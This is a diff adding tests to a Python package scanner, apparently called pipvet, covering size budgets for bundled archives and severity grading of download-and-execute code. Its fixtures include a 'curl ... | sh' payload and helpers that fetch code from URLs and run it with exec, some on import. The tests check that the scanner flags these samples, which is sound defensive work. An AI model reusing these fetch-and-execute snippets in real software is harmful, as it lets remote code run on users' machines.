@@ -503,3 +503,89 @@ def test_decoded_text_fed_to_a_process_and_its_answer_run_stays_hidden_code():
     result = scan({"setup.py": SETUP, "demo/__init__.py": src})
     assert found(result, "intent.decode-execute")
     assert result.verdict in FLAGGED
+
+
+# -- a large bundled data archive does not use up the budget of the package's own code ------
+
+
+def _wheel_with_bundle(payload: str) -> bytes:
+    bundle = io.BytesIO()
+    with zipfile.ZipFile(bundle, "w") as zf:
+        for i in range(8):
+            zf.writestr(f"assets/table{i}.js", "var x = 1;\n" * 3000)  # ~33 KB each
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("demo/_data/bundle.zip", bundle.getvalue())
+        for i in range(4):
+            zf.writestr(f"demo/mod{i}.py", "X = 1\n" * 6000)  # ~36 KB each
+        zf.writestr("demo/__init__.py", payload)
+        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
+    return buf.getvalue()
+
+
+def test_a_bundled_data_archive_does_not_leave_the_package_code_unread():
+    from pipvet.core.analysis.archive import Limits, read_artifact_bytes
+
+    limits = Limits(max_kept_total=200_000, max_nested_kept=100_000)
+    artifact = read_artifact_bytes(
+        _wheel_with_bundle("X = 1\n"), "demo-1.0-py3-none-any.whl", limits=limits
+    )
+    own = [m for m in artifact.members if "!/" not in m.path and m.path.endswith(".py")]
+    assert own and not any(m.truncated for m in own)  # the bundle had its own budget
+    result = analyze(artifact)
+    assert not [f for f in result.findings if f.rule == "analysis.truncated" and "!/" not in f.path]
+    assert result.verdict not in FLAGGED
+
+
+def test_package_code_past_the_budget_is_still_a_blocking_gap():
+    from pipvet.core.analysis.archive import Limits, read_artifact_bytes
+
+    payload = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n' * 20
+    limits = Limits(max_kept_total=60_000, max_nested_kept=100_000)
+    artifact = read_artifact_bytes(
+        _wheel_with_bundle(payload), "demo-1.0-py3-none-any.whl", limits=limits
+    )
+    result = analyze(artifact)
+    assert any(
+        f.rule == "analysis.truncated" and f.severity == "high" and "!/" not in f.path
+        for f in result.findings
+    )
+    assert result.verdict in FLAGGED
+
+
+# -- a preload feature runs the URL its caller gives -----------------------------------------
+
+PRELOAD = """
+    import types
+    import urllib.request
+
+    def download_module(url):
+        with urllib.request.urlopen(url) as response:
+            source = response.read()
+        module = types.ModuleType(url)
+        exec(compile(source, url, "exec"), module.__dict__)
+        return module
+"""
+
+
+def test_running_code_from_a_url_the_caller_gives_is_only_a_warning():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": PRELOAD})
+    runs = found(result, "intent.download-execute")
+    assert runs and all(f.severity == "medium" for f in runs)
+    assert result.verdict not in FLAGGED
+
+
+def test_running_code_from_a_url_written_in_stays_serious():
+    src = PRELOAD.replace("def download_module(url):", "def download_module():").replace(
+        "urlopen(url)", 'urlopen("https://cdn.example.net/stage2.py")'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
+
+
+def test_a_preload_helper_the_package_runs_on_import_stays_serious():
+    init = 'from .preload import download_module\ndownload_module("https://cdn.example.net/x.py")\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/preload.py": PRELOAD})
+    assert any(f.severity == "critical" for f in found(result, "intent.download-execute"))
+    assert result.verdict == "malicious"
